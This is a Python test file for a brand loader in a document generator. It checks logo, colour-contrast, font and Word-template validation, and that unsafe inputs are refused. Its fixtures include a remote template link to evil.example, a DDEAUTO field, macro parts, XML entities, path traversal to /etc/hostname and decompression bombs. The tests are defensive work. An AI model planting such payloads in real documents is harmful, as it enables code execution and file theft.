"""A firm's brand can be read by everybody, and can do nothing but look."""

from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import docx
import pypdf
import pytest
from docx.oxml.ns import qn
from support.assessed import assessed

from advisor.errors import InputError
from advisor.presentation.documents.brand import LOWEST_CONTRAST, Brand, contrast, load_brand
from advisor.presentation.documents.writing import FORMS, write_document

EXAMPLE = "02-village-high-school"


def png(width: int = 4, height: int = 2, packed: int | None = None) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    rows = b"".join(b"\0" + b"\x20\x60\x50" * width for _ in range(height))
    header = struct.pack(">IIBBBBB", packed or width, packed or height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")
    )  # fmt: skip


@pytest.fixture
def firm(tmp_path: Path) -> Callable[..., Path]:
    """Writes a brand file and what it names."""

    def write(text: str = "", **files: bytes) -> Path:
        folder = tmp_path / "firm"
        folder.mkdir(exist_ok=True)
        for name, content in files.items():
            (folder / name.replace("_", ".")).write_bytes(content)
        (folder / "brand.yml").write_text(f"name: Hill & Partners\n{text}", "utf-8")
        return folder / "brand.yml"

    return write


def refused(brand: Path) -> str:
    with pytest.raises(InputError) as caught:
        load_brand(brand)
    return str(caught.value)


@pytest.mark.parametrize("form", FORMS)
def test_the_firm_delivers_the_document_and_the_same_bytes_again(firm, form):
    brand = firm("logo: logo.png\ncolors: {accent: '#0b5d57'}\n", logo_png=png())
    made = write_document(assessed(EXAMPLE), form, brand=brand)
    assert made == write_document(assessed(EXAMPLE), form, brand=brand)
    if form == "pdf":
        reader = pypdf.PdfReader(io.BytesIO(made))
        assert reader.metadata.author == "Hill & Partners"
        assert len(reader.pages[0].images) == 1
    elif form == "docx":
        word = docx.Document(io.BytesIO(made))
        assert word.core_properties.author == "Hill & Partners"
        alternatives = [one._inline.docPr.get("descr") for one in word.inline_shapes]
        assert alternatives[0] == "Hill & Partners"
        assert str(word.styles["Heading 1"].font.color.rgb) == "0B5D57"
    elif form == "text":
        assert b"From: Hill & Partners" in made
    else:
        assert b'alt="Hill &amp; Partners"' in made
        assert b"--link: #0b5d57" in made


@pytest.mark.parametrize("color", ["#ffd700", "#808080", "#ff0000", "#00ffff", "#ffffff"])
def test_a_color_that_not_everybody_can_read_is_refused_with_the_nearest_that_passes(firm, color):
    said = refused(firm(f"colors: {{accent: '{color}'}}\n"))
    ratio, nearest = re.search(r"contrast of ([\d.]+) to 1 .* is (#\w{6})\.", said).groups()
    assert float(ratio) == pytest.approx(contrast(color, "#ffffff"), abs=0.06)
    assert contrast(nearest, "#ffffff") >= LOWEST_CONTRAST
    lighter = "#" + "".join(
        f"{min(255, int(nearest[at : at + 2], 16) + 2):02x}" for at in (1, 3, 5)
    )
    assert contrast(lighter, "#ffffff") < LOWEST_CONTRAST
    assert load_brand(firm(f"colors: {{accent: '{nearest}'}}\n")).colors.accent == nearest


def test_a_shade_too_dark_for_the_text_on_it_is_refused_with_a_lighter_one(firm):
    said = refused(firm("colors: {shade: '#336699'}\n"))
    nearest = re.search(r"is (#\w{6})\.", said)[1]
    assert contrast(nearest, Brand().colors.text) >= LOWEST_CONTRAST
    assert load_brand(firm(f"colors: {{shade: '{nearest}'}}\n"))


def test_contrast_is_reckoned_as_wcag_has_it():
    assert contrast("#000000", "#ffffff") == pytest.approx(21)
    assert contrast("#777777", "#ffffff") == pytest.approx(4.48, abs=0.01)


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("colors: {accent: teal}\n", "“teal” is no color. Write it like #24425c."),
        ("colour: {accent: teal}\n", "There is no key “colour” in a brand."),
        ("fonts: {text: 'x\"; } body { color: red'}\n", "is no name of a font"),
        ("logo: ../secret.png\n", "leads out of its folder"),
        ("logo: /etc/hostname\n", "leads out of its folder"),
        ("logo: missing.png\n", "There is no such file."),
        ("logo: brand.yml\n", "This is no PNG."),
        ("word-template: brand.yml\n", "This is no Word file"),
        ("fonts: {files: [brand.yml]}\n", "This is no font."),
    ],
)
def test_what_cannot_be_used_is_refused_in_words(firm, text, said):
    assert said in refused(firm(text))


def test_a_link_out_of_the_folder_is_refused(firm, tmp_path):
    (tmp_path / "secret.png").write_bytes(png())
    brand = firm("logo: logo.png\n")
    (brand.parent / "logo.png").symlink_to(tmp_path / "secret.png")
    assert "leads out of its folder" in refused(brand)


def test_a_logo_of_too_many_pixels_or_bytes_is_refused(firm):
    assert "has 60000 times 60000 pixels" in refused(
        firm("logo: logo.png\n", logo_png=png(packed=60000))
    )
    bomb = png(4000, 4000, packed=9)  # 48 MB of rows
    assert "is damaged" in refused(firm("logo: logo.png\n", logo_png=bomb))
    assert "larger than 1,000,000 bytes" in refused(
        firm("logo: logo.png\n", logo_png=png() + bytes(1_000_000))
    )


@pytest.mark.parametrize("at", [20, 45, 50, -6])
def test_a_damaged_logo_is_refused(firm, at):
    data = bytearray(png())
    data[at] ^= 1
    assert re.search("damaged|pixels", refused(firm("logo: logo.png\n", logo_png=bytes(data))))
    assert "damaged" in refused(firm("logo: logo.png\n", logo_png=png()[:-12]))


def test_a_font_that_typst_lacks_is_asked_for_and_taken_from_a_file(firm):
    with pytest.raises(InputError, match="A PDF carries its fonts, and “Gill Sans” is in no file"):
        write_document(assessed(EXAMPLE), "pdf", brand=firm("fonts: {text: Gill Sans}\n"))
    brand = firm("fonts: {text: New Computer Modern, headings: DejaVu Sans Mono}\n")
    reader = pypdf.PdfReader(io.BytesIO(write_document(assessed(EXAMPLE), "pdf", brand=brand)))
    fonts = {str(one["/BaseFont"]) for one in reader.pages[0]["/Resources"]["/Font"].values()}
    assert any("NewCM" in one for one in fonts), fonts
    assert any("DejaVu" in one for one in fonts), fonts


def letterhead(change: Callable[[dict[str, bytes]], None] = lambda parts: None) -> bytes:
    """A firm's Word file without the style List Number, with something changed in it."""
    word = docx.Document()
    word.sections[0].header.paragraphs[0].text = "Hill & Partners, school strategy"
    word.styles["Heading 1"].font.name = "Georgia"
    word.styles["List Number"].element.getparent().remove(word.styles["List Number"].element)
    word.add_paragraph("A page to be left out")
    made, changed = io.BytesIO(), io.BytesIO()
    word.save(made)
    with zipfile.ZipFile(made) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    with zipfile.ZipFile(changed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return changed.getvalue()


def test_the_styles_head_and_page_of_the_firms_word_file_are_kept(firm):
    brand = firm("word-template: firm.docx\n", firm_docx=letterhead())
    made = write_document(assessed(EXAMPLE), "docx", brand=brand)
    assert made == write_document(assessed(EXAMPLE), "docx", brand=brand)
    word = docx.Document(io.BytesIO(made))
    assert word.sections[0].header.paragraphs[0].text == "Hill & Partners, school strategy"
    assert word.styles["Heading 1"].font.name == "Georgia"
    assert "A page to be left out" not in [one.text for one in word.paragraphs]
    numbered = [one for one in word.paragraphs if one.style.name == "List Number"]
    assert numbered
    lists = {one.numId: one.abstractNumId.val for one in word.part.numbering_part.element.num_lst}
    kinds = {
        int(one.get(qn("w:abstractNumId"))): one.find(f".//{qn('w:numFmt')}").get(qn("w:val"))
        for one in word.part.numbering_part.element.iter(qn("w:abstractNum"))
    }
    for one in numbered:
        assert kinds[lists[one._p.pPr.numPr.numId.val]] == "decimal"
    languages = {one.get(qn("w:val")) for one in word.styles.element.iter(qn("w:lang"))}
    assert languages == {"en-US"}


def without_numbering(parts: dict[str, bytes]) -> None:
    del parts["word/numbering.xml"]
    for name in ("word/_rels/document.xml.rels", "[Content_Types].xml"):
        parts[name] = re.sub(rb"<(?:Relationship|Override)[^>]*numbering[^>]*/>", b"", parts[name])


def test_a_word_file_without_any_list_gets_ours(firm):
    brand = firm("word-template: firm.docx\n", firm_docx=letterhead(without_numbering))
    word = docx.Document(io.BytesIO(write_document(assessed(EXAMPLE), "docx", brand=brand)))
    items = [one for one in word.paragraphs if one.style.name.startswith("List ")]
    assert {one._p.pPr.numPr is not None for one in items} == {True}


def test_a_word_file_whose_styles_are_of_another_kind_is_refused(firm):
    old = b'w:type="paragraph" w:styleId="Heading1"'
    change = put("word/styles.xml", old, b'w:type="character" w:styleId="Heading1"')
    brand = firm("word-template: firm.docx\n", firm_docx=letterhead(change))
    with pytest.raises(InputError, match="cannot be opened: its style Heading 1 is of another"):
        write_document(assessed(EXAMPLE), "docx", brand=brand)


def put(name: str, old: bytes, new: bytes) -> Callable[[dict[str, bytes]], None]:
    def change(parts: dict[str, bytes]) -> None:
        assert old in parts[name]
        parts[name] = parts[name].replace(old, new, 1)

    return change


LINK = (
    b'<Relationship Id="x" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="%s"/>'
    b"</Relationships>"
)
RELATIONS = "word/_rels/document.xml.rels"
FIELD = b'<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\x"/></w:p></w:hdr>'
HEADER = "word/header1.xml"


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (put(RELATIONS, b"</Relationships>", LINK % b"External"), "to “http://evil.example/t.dotm”"),
        (put(RELATIONS, b"</Relationships>", LINK % b"&#69;xternal"), "leads out of itself"),
        (lambda parts: parts.update({"word/vbaProject.bin": b"x"}), "holds a macro"),
        (lambda parts: parts.update({"word/embeddings/a.xlsx": b"x"}), "holds a macro"),
        (put("[Content_Types].xml", b"document.main+xml", b"document.macroEnabled.main+xml"),
         "holds a macro"),
        (put("[Content_Types].xml", b'Extension="xml"', b'Extension="png"'), "holds a macro"),
        (put(HEADER, b"</w:hdr>", FIELD), "the field “DDEAUTO”"),
        (put(HEADER, b"</w:hdr>", b"<w:p><w:r><w:instrText>INCLUDETEXT x</w:instrText></w:r></w:p>"
             b"</w:hdr>"), "the field “INCLUDETEXT”"),
        (put("word/styles.xml", b"<w:styles", b'<!DOCTYPE x [<!ENTITY a "b">]><w:styles'),
         "declares entities"),
        (put("word/styles.xml", b"</w:styles>", b"</w:style>"), "damaged"),
        (lambda parts: parts.update({"word/media/a.png": bytes(21_000_000)}), "unpacks to more"),
        (lambda parts: parts.pop("word/document.xml"), "This is no Word file."),
    ],
)  # fmt: skip
def test_a_word_file_that_could_do_something_is_refused(firm, change, said):
    assert said in refused(firm("word-template: firm.docx\n", firm_docx=letterhead(change)))


def test_page_numbers_may_stay(firm):
    page = put(HEADER, b"</w:hdr>", b'<w:p><w:fldSimple w:instr=" PAGE "/></w:p></w:hdr>')
    assert load_brand(firm("word-template: firm.docx\n", firm_docx=letterhead(page))).letterhead
